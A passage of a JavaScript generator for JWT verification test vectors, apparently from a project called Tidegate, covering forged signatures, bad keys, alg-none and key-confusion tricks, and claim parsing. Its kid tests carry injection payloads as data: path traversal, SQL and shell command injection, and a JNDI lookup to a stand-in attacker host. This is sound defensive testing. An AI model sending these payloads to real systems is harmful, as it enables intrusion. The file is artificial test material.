    'the sign of R changed': (bytes) => Buffer.concat([bytes.subarray(0, 31), Buffer.from([bytes[31] ^ 0x80]), bytes.subarray(32)]),
    'R and S exchanged': (bytes) => Buffer.concat([bytes.subarray(32), bytes.subarray(0, 32)]),
    'R = 1 and S = 0': () => Buffer.concat([little(1n), Buffer.alloc(32)]),
    'both reversed': (bytes) => Buffer.from(bytes).reverse()
  })) tests.push([`rejects ${name}`, make(header, (signed) => change(sign(signed))), 'signature'])
  for (const bits of [256, 512]) {
    tests.push([`rejects the signature of the SHA-${bits}`, make(header, (signed) => sign(sha(bits, signed))), 'signature'])
  }
  const ed448 = pair('ed448')
  tests.push(['rejects Ed448', make({ alg: 'EdDSA', kid: 'ed448' }, 'EdDSA', ed448.privateKey), 'no_signer'])
  tests.push(['rejects Ed448 by its name', make({ alg: 'Ed448', kid: 'ed448' }, 'EdDSA', ed448.privateKey), 'no_signer'])
  write('eddsa_numbers', {
    source: 'Tidegate; Wycheproof eddsa edge cases',
    jwks: { keys: [jwk(publicKey, { kid: 'kid-eddsa' }), jwk(ed448.publicKey, { kid: 'ed448' })] },
    tests: rows(tests)
  })
}

// Keys that must not be used, each with a token that it has truly signed.
{
  const keys = []
  const tests = []
  const add = (name, key, alg, privateKey, answer = 'no_signer') => {
    const kid = `key-${keys.length}`
    keys.push({ ...key, kid })
    tests.push([name, make({ alg, kid }, alg, privateKey), answer])
  }
  const { RS256, ES256, EdDSA } = publics
  const own = (key, more) => jwk(key.publicKey, more)
  add('accepts RSA of 2048 bits without alg, use or key_ops', own(RS256, {}), 'RS256', RS256.privateKey, 'ok')
  add('accepts key_ops with verify', own(RS256, { key_ops: ['verify'] }), 'RS384', RS256.privateKey, 'ok')
  const small = pair('rsa', { modulusLength: 1024 })
  add('rejects RSA of 1024 bits', own(small, {}), 'RS256', small.privateKey)
  const almost = pair('rsa', { modulusLength: 2040 })
  add('rejects RSA of 2040 bits', own(almost, {}), 'RS256', almost.privateKey)
  const three = pair('rsa', { modulusLength: 2048, publicExponent: 3 })
  add('rejects an exponent of 3', own(three, {}), 'RS256', three.privateKey)
  add('rejects an exponent of 1', { ...own(RS256, {}), e: 'AQ' }, 'RS256', RS256.privateKey)
  add('rejects use enc', own(RS256, { use: 'enc' }), 'RS256', RS256.privateKey)
  add('rejects key_ops without verify', own(ES256, { key_ops: ['sign'] }), 'ES256', ES256.privateKey)
  add('rejects the alg PS256', own(RS256, { alg: 'PS256' }), 'RS256', RS256.privateKey)
  add('rejects PS256 itself', own(RS256, { alg: 'PS256' }), 'PS256', RS256.privateKey)
  add('rejects the alg of another type', own(RS256, { alg: 'ES256' }), 'RS256', RS256.privateKey)
  add('rejects the alg HS256 on an RSA key', own(RS256, { alg: 'HS256' }), 'RS256', RS256.privateKey)
  add('rejects the alg none', own(RS256, { alg: 'none' }), 'RS256', RS256.privateKey)
  add('rejects another alg than the header says', own(RS256, { alg: 'RS512' }), 'RS256', RS256.privateKey)
  add('rejects an RSA pair', jwk(RS256.privateKey, {}), 'RS256', RS256.privateKey)
  add('rejects an EC pair', jwk(ES256.privateKey, {}), 'ES256', ES256.privateKey)
  add('rejects an Ed25519 pair', jwk(EdDSA.privateKey, {}), 'EdDSA', EdDSA.privateKey)
  const p521 = pair('ec', { namedCurve: 'P-521' })
  add('rejects P-521', own(p521, {}), 'ES512', p521.privateKey)
  const k1 = pair('ec', { namedCurve: 'secp256k1' })
  add('rejects secp256k1', own(k1, {}), 'ES256', k1.privateKey)
  add('rejects a P-256 point said to be on P-384', { ...own(ES256, {}), crv: 'P-384' }, 'ES256', ES256.privateKey)
  add('rejects a coordinate cut short', { ...own(ES256, {}), x: 'AAAA' }, 'ES256', ES256.privateKey)
  add('rejects padded base64', { ...own(EdDSA, {}), x: `${own(EdDSA, {}).x}=` }, 'EdDSA', EdDSA.privateKey)
  const short = crypto.randomBytes(31)
  add('rejects an octet key of 31 bytes', { kty: 'oct', k: b64(short) }, 'HS256', short)
  const octets = crypto.randomBytes(32)
  add('accepts an octet key of 32 bytes', { kty: 'oct', k: b64(octets) }, 'HS256', octets, 'ok')
  keys.push({ ...own(RS256, {}), kid: 'twice' }, { ...own(ES256, {}), kid: 'twice' })
  tests.push(['rejects the first of two keys with one kid', make({ alg: 'RS256', kid: 'twice' }, 'RS256', RS256.privateKey), 'no_signer'])
  tests.push(['rejects the second of two keys with one kid', make({ alg: 'ES256', kid: 'twice' }, 'ES256', ES256.privateKey), 'no_signer'])
  keys.push(own(RS256, {}), { ...own(ES256, {}), kid: 7 }, { ...own(ES256, {}), kid: 'k'.repeat(129) }, null, 'key')
  tests.push(['rejects a key without kid', make({ alg: 'RS256' }, 'RS256', RS256.privateKey), 'no_signer'])
  tests.push(['rejects a kid of 129 bytes', make({ alg: 'ES256', kid: 'k'.repeat(129) }, 'ES256', ES256.privateKey), 'no_signer'])
  write('unusable_keys', { source: 'Tidegate; RFC 7517, RFC 7518, RFC 8725 section 3.5', jwks: { keys }, tests: rows(tests) })
}

// jwt_tool and RFC 8725: what a header may try, against a secret and a document.
{
  const { RS256 } = publics
  const kid = 'kid-rs256'
  const tests = []
  const add = (name, jws, answer) => tests.push([name, jws, answer])
  const unsigned = (header, signature = '') => `${b64(typeof header === 'string' ? header : JSON.stringify(header))}.${b64(CLAIMS)}.${signature}`
  add('accepts the secret', make({ alg: 'HS256' }, 'HS256', SECRET), 'ok')
  add('accepts the public key', make({ alg: 'RS256', kid }, 'RS256', RS256.privateKey), 'ok')
  for (let casing = 0; casing < 16; casing++) {
    const alg = [...'none'].map((it, at) => ((casing >> at) & 1 ? it.toUpperCase() : it)).join('')
    add(`jwt_tool -X a: alg ${alg}`, unsigned({ alg, typ: 'JWT' }), 'no_signer')
    add(`alg ${alg} and a signature`, unsigned({ alg, kid }, 'AAAA'), 'no_signer')
  }
  for (const alg of ['', ' ', 'none ', 'n\u006fne\u0000', 'None\n', 'null', 'undefined', 'HS', 'HS0', 'HS256,none', 'HS-256', 'hs256', 'Hs256', 'HS256\u0000', 'HS1', 'SHA256', 'HMAC', '\u212bS256', 'A128KW', 'HS256/none']) {
    add(`alg ${JSON.stringify(alg)}`, make({ alg }, 'HS256', SECRET), 'no_signer')
  }
  for (const alg of [null, 0, 256, true, false, [], ['HS256'], {}, { alg: 'HS256' }]) {
    add(`alg ${JSON.stringify(alg)} of another type`, make({ alg }, 'HS256', SECRET), 'no_signer')
  }
  add('no alg', make({ typ: 'JWT' }, 'HS256', SECRET), 'no_signer')
  add('Alg', make({ Alg: 'HS256' }, 'HS256', SECRET), 'no_signer')
  // jwt_tool -X b, -X n.
  for (const alg of ['HS256', 'HS384', 'HS512']) {
    add(`jwt_tool -X b: blank password, ${alg}`, make({ alg, typ: 'JWT' }, alg, ''), 'signature')
    add(`a password of one NUL, ${alg}`, make({ alg }, alg, '\u0000'), 'signature')
    add(`jwt_tool -X n: null signature, ${alg}`, unsigned({ alg, typ: 'JWT' }), 'signature')
    for (const password of ['secret', 'password', 'your-256-bit-secret', 'super-secret-jwt-token-with-at-least-32-characters-long', 'undefined', 'null', 'true', '0']) {
      add(`jwt_tool -C: ${password}, ${alg}`, make({ alg }, alg, password), 'signature')
    }
  }
  add('jwt_tool -X n: null signature, RS256', unsigned({ alg: 'RS256', kid }), 'signature')
  add('jwt_tool -X p: psychic signature', make({ alg: 'ES256', kid }, () => Buffer.from('3006020100020100', 'hex')), 'no_signer')
  add('psychic signature of raw zeros', make({ alg: 'ES256', kid }, () => Buffer.alloc(64)), 'no_signer')
  // jwt_tool -I -hc kid: paths, SQL, commands. The key would be an empty file's, or one that the query makes up.
  const kids = [
    '../../../../../../dev/null', '/dev/null', '/proc/sys/kernel/randomize_va_space', 'file:///dev/null', '..\\..\\nul',
    "' UNION SELECT 'a' -- ", "x' OR '1'='1", "'; SELECT pg_sleep(10); --", '$(sleep 10)', '`sleep 10`', '; sleep 10 #', '|sleep 10', '\u0000', '%00', '${jndi:ldap://attacker.example/a}',
    'https://attacker.example/key', '{{7*7}}', '<script>alert(1)</script>', '__proto__', 'constructor', 'null', 'undefined', 'kid-rs256\u0000', 'kid-rs256 ', '*', '.*', '%s%n', '-1', '0', ''
  ]
  for (const kid of kids) {
    for (const [name, key] of [['an empty key', ''], ['the key "a"', 'a'], ['the key "0"', '0\n'], ['the kid as key', kid]]) {
      add(`kid ${JSON.stringify(kid)} with ${name}`, make({ alg: 'HS256', kid }, 'HS256', key), 'signature')
    }
    add(`kid ${JSON.stringify(kid)} with an attacker's RSA key`, make({ alg: 'RS256', kid }, 'RS256', RS256.stranger.privateKey), 'no_signer')
  }
  add('kid of 129 bytes', make({ alg: 'HS256', kid: 'k'.repeat(129) }, 'HS256', SECRET), 'no_signer')
  add('kid of 128 bytes', make({ alg: 'HS256', kid: 'k'.repeat(128) }, 'HS256', SECRET), 'ok')
  add('kid of 43 characters of three bytes', make({ alg: 'HS256', kid: '\u20ac'.repeat(43) }, 'HS256', SECRET), 'no_signer')
  for (const kid of [1, true, [], {}, ['kid-rs256']]) add(`kid ${JSON.stringify(kid)} of another type`, make({ alg: 'HS256', kid }, 'HS256', SECRET), 'malformed')
  // Extensions.
  for (const crit of [['exp'], ['b64'], ['http://openbanking.org.uk/iat'], ['alg'], ['unknown'], [], null, '', 'exp', 0, false, {}]) {
    add(`crit ${JSON.stringify(crit)}`, make({ alg: 'HS256', crit, exp: LASTS, unknown: 1 }, 'HS256', SECRET), 'malformed')
  }
  add('b64 false (RFC 7797)', make({ alg: 'HS256', b64: false }, 'HS256', SECRET), 'malformed')
  add('b64 false and its crit', make({ alg: 'HS256', b64: false, crit: ['b64'] }, 'HS256', SECRET), 'malformed')
  add('b64 "false"', make({ alg: 'HS256', b64: 'false' }, 'HS256', SECRET), 'malformed')
  add('b64 null', make({ alg: 'HS256', b64: null }, 'HS256', SECRET), 'malformed')
  add('b64 true', make({ alg: 'HS256', b64: true }, 'HS256', SECRET), 'ok')
  // Several readers of one text.
  const hs = (header, claims) => make(header, 'HS256', SECRET, claims)
  add('RFC 8725 2.6: alg twice, ours first', hs('{"alg":"HS256","alg":"none"}'), 'malformed')
  add('alg twice, ours last', hs('{"alg":"none","alg":"HS256"}'), 'malformed')
  add('alg twice, once escaped', hs('{"alg":"none","\\u0061lg":"HS256"}'), 'malformed')
  add('kid twice', hs('{"alg":"HS256","kid":"a","kid":"b"}'), 'malformed')
  add('a member twice within another', hs('{"alg":"HS256","x":{"a":1,"a":2}}'), 'malformed')
  add('role twice', hs({ alg: 'HS256' }, `{"role":"anon","role":"service_role","exp":${LASTS}}`), 'malformed')
  add('role twice, once escaped', hs({ alg: 'HS256' }, `{"role":"anon","r\\u006fle":"service_role","exp":${LASTS}}`), 'malformed')
  add('exp twice', hs({ alg: 'HS256' }, `{"role":"anon","exp":1,"exp":${LASTS}}`), 'malformed')
  add('a claim twice within another', hs({ alg: 'HS256' }, `{"role":"anon","exp":${LASTS},"admin_events":{"AB1":"none","AB1":"super"}}`), 'malformed')
  add('the same name at two depths', hs({ alg: 'HS256' }, `{"role":"anon","exp":${LASTS},"x":{"role":"service_role","x":{"role":"x"}}}`), 'ok')
  for (const header of ['', 'null', '[]', '"HS256"', '1', '{', '{"alg":"HS256"', '{"alg":"HS256"}}', '{"alg":"HS256"} {}', '{"alg":"HS256",}', "{'alg':'HS256'}", '\ufeff{"alg":"HS256"}', '{"alg":"HS256"}\u0000', '{"alg":"HS256"}//', `{"alg":"HS256","x":${'['.repeat(200)}${']'.repeat(200)}}`]) {
    add(`header ${JSON.stringify(header.slice(0, 40))}`, hs(header), 'malformed')
  }
  add('header in UTF-16', hs(Buffer.from('{"alg":"HS256"}', 'utf16le')), 'malformed')
  add('header that is not UTF-8', hs(Buffer.concat([Buffer.from('{"alg":"HS256","kid":"'), Buffer.from([0xff]), Buffer.from('"}')])), 'malformed')
  add('header with spaces', hs(' \n\t{ "alg" : "HS256" } '), 'ok')
  for (const claims of ['', 'null', '[]', '"role"', '1', '{', `{"role":"anon","exp":${LASTS}}{}`, `\ufeff{"role":"anon","exp":${LASTS}}`, `{"role":"anon","exp":${LASTS},"x":${'['.repeat(200)}${']'.repeat(200)}}`]) {
    add(`claims ${JSON.stringify(claims.slice(0, 60))}`, hs({ alg: 'HS256' }, claims), 'malformed')
  }
  add('claims in UTF-16', hs({ alg: 'HS256' }, Buffer.from(CLAIMS, 'utf16le')), 'malformed')
  add('a token within a token', hs({ alg: 'HS256', cty: 'JWT' }, hs({ alg: 'HS256' })), 'malformed')
  add('a JWE of five parts', `${b64('{"alg":"dir","enc":"A256GCM"}')}..${b64('iv')}.${b64('text')}.${b64('tag')}`, 'malformed')
  add('a JWE header on three parts', hs({ alg: 'HS256', enc: 'A256GCM', zip: 'DEF' }), 'ok')
  // jwt_tool -T, -I -pc: claims changed under a signature that was right.
  const [h, p, s] = hs({ alg: 'HS256' }).split('.')
  for (const claims of [{ role: 'service_role', exp: LASTS }, { role: 'anon', exp: LASTS + 1 }, { role: 'anon', exp: LASTS, admin_events: { global: 'super' } }, {}]) {
    add(`jwt_tool -T: claims changed to ${JSON.stringify(claims)}`, `${h}.${b64(JSON.stringify(claims))}.${s}`, 'signature')
  }
  add('jwt_tool -X: the signature of another token', `${h}.${p}.${hs({ alg: 'HS256', typ: 'JWT' }).split('.')[2]}`, 'signature')
  add('a prefix of Bearer', `Bearer ${hs({ alg: 'HS256' })}`, 'malformed')
  add('RFC 8725 3.11: an ID token, which has no role', hs({ alg: 'HS256', typ: 'JWT' }, JSON.stringify({ iss: 'x', aud: 'y', sub: 'z', exp: LASTS })), 'missing_claims')
  write('headers', {
    source: 'Tidegate; RFC 7515, RFC 7797, RFC 8725, ticarpi/jwt_tool',
    jwks: { keys: [jwk(RS256.publicKey, { kid, alg: 'RS256' })] },
    jwt_secret: SECRET,
    tests: rows(tests)
  })
}

// Claims: exact texts, each with its answer.
const signed = (claims) => make({ alg: 'HS256' }, 'HS256', SECRET, claims)
const claimed = (list) => list.map(([name, claims, answer]) => ({ name, claims, jws: signed(claims), answer }))
{
  const exp = (value) => `{"role":"anon","exp":${value}}`
  const more = (members) => `{"role":"anon","exp":${LASTS},${members}}`
  const tests = []
  for (const value of ['"4102444800"', 'null', 'true', '[4102444800]', '{"a":1}', '""']) tests.push([`exp ${value}`, exp(value), 'missing_claims'])
  tests.push(['no exp', '{"role":"anon"}', 'missing_claims'])
  tests.push(['Exp', `{"role":"anon","Exp":${LASTS}}`, 'missing_claims'])
  for (const value of ['-1', '0', '-0', '1', '1.5', '-1e300', '-9223372036854775808', '-99999999999999999999999', '1e-400', `${NOW - 6}`, `${NOW - 5}`, `${NOW - 5.6}`]) tests.push([`exp ${value}`, exp(value), 'expired'])
  for (const value of [`${NOW - 4}`, `${NOW - 4.5}`, `${NOW}`, `${NOW + 1}`, `${NOW}.5`, '1.9e9', '1e300', '9223372036854775807', '18446744073709551615', '99999999999999999999999']) tests.push([`exp ${value}`, exp(value), 'ok'])
  for (const value of ['1e400', '-1e400', 'NaN', 'Infinity', '0x7fffffff', '01900000000', '+1900000000', '1900000000.', '.5', '1_900_000_000']) tests.push([`exp ${value}`, exp(value), 'malformed'])
  for (const name of ['iat', 'nbf']) {
    for (const value of ['"1700000000"', 'null', 'true', '[]', '{}']) tests.push([`${name} ${value}`, more(`"${name}":${value}`), 'malformed'])
    for (const value of ['1700000000', '1700000000.5', '0', '-1']) tests.push([`${name} ${value}`, more(`"${name}":${value}`), 'ok'])
  }
  tests.push(['iat ahead', more(`"iat":${NOW + 9999}`), 'ok'])
  for (const ahead of [5, 5.4]) tests.push([`nbf ${ahead} s ahead`, more(`"nbf":${NOW + ahead}`), 'ok'])
  for (const ahead of [5.6, 6, 99999]) tests.push([`nbf ${ahead} s ahead`, more(`"nbf":${NOW + ahead}`), 'not_yet_valid'])
  tests.push(['nbf 1e300', more('"nbf":1e300'), 'not_yet_valid'])
  tests.push(['nbf 1e400', more('"nbf":1e400'), 'malformed'])
  tests.push(['nbf ahead and exp past', `{"role":"anon","exp":1,"nbf":${NOW + 99}}`, 'expired'])
  tests.push(['exp past and no role', '{"exp":1}', 'expired'])
  tests.push(['exp past and iat a text', '{"role":"anon","exp":1,"iat":"x"}', 'malformed'])
  const role = (value) => `{"role":${value},"exp":${LASTS}}`
  for (const value of ['null', '1', 'true', '["anon"]', '{"anon":1}', '""', '"a\\u0000b"', '"a\\nb"', '"\\u007f"', JSON.stringify('r'.repeat(64)), JSON.stringify('\u20ac'.repeat(22))]) tests.push([`role ${value}`, role(value), 'missing_claims'])
  for (const value of ['"anon"', '"service_role"', '" "', '"\\u0061non"', JSON.stringify('r'.repeat(63)), JSON.stringify('\u20ac'.repeat(21))]) tests.push([`role ${value}`, role(value), 'ok'])
  tests.push(['no role', `{"exp":${LASTS}}`, 'missing_claims'])
  tests.push(['Role', `{"Role":"anon","exp":${LASTS}}`, 'missing_claims'])
  for (const members of ['"sub":1', '"sub":null', '"session_id":[]', '"jti":{}', '"iss":1', '"aud":{}', '"aud":"authenticated"', '"aud":["a",1]', '"admin_events":null', '"person_id":null', '"":""']) tests.push([`and ${members}`, more(members), 'ok'])
  write('claims', { source: 'Tidegate; the table of src/auth/jwt.rs; compat-spec G-3, G-4, RFC 7519', jwt_secret: SECRET, leeway: '5s', tests: claimed(tests) })
}
{
  const all = (members) => `{"role":"anon","exp":${LASTS}${members}}`
  const tests = [
    ['both right', all(',"iss":"https://issuer.example","aud":"authenticated"'), 'ok'],
    ['the other issuer', all(',"iss":"supabase","aud":"authenticated"'), 'ok'],
    ['a list with one that is right', all(',"iss":"supabase","aud":["other","authenticated"]'), 'ok'],
    ['no iss', all(',"aud":"authenticated"'), 'issuer'],
    ['no aud', all(',"iss":"supabase"'), 'audience'],
    ['neither', all(''), 'issuer']
  ]
  for (const iss of ['null', '1', '""', '"Supabase"', '"supabase "', '"supabase/"', '["supabase"]', '{"supabase":1}', '"https://issuer.example.attacker.example"', '"https://issuer.example/"']) tests.push([`iss ${iss}`, all(`,"iss":${iss},"aud":"authenticated"`), 'issuer'])
  for (const aud of ['null', '1', '""', '[]', '"other"', '"Authenticated"', '["other"]', '[["authenticated"]]', '["authenticated",1]', '{"authenticated":1}', '"authenticated,other"']) tests.push([`aud ${aud}`, all(`,"iss":"supabase","aud":${aud}`), 'audience'])
  tests.push(['expired before the wrong issuer', '{"role":"anon","exp":1}', 'expired'])
  tests.push(['no role before the wrong issuer', `{"exp":${LASTS}}`, 'missing_claims'])
  write('issuers_and_audiences', {
    source: 'Tidegate; RFC 8725 sections 3.8 and 3.9', jwt_secret: SECRET,
    issuers: ['supabase', 'https://issuer.example'], audiences: ['authenticated'], tests: claimed(tests)
  })
}
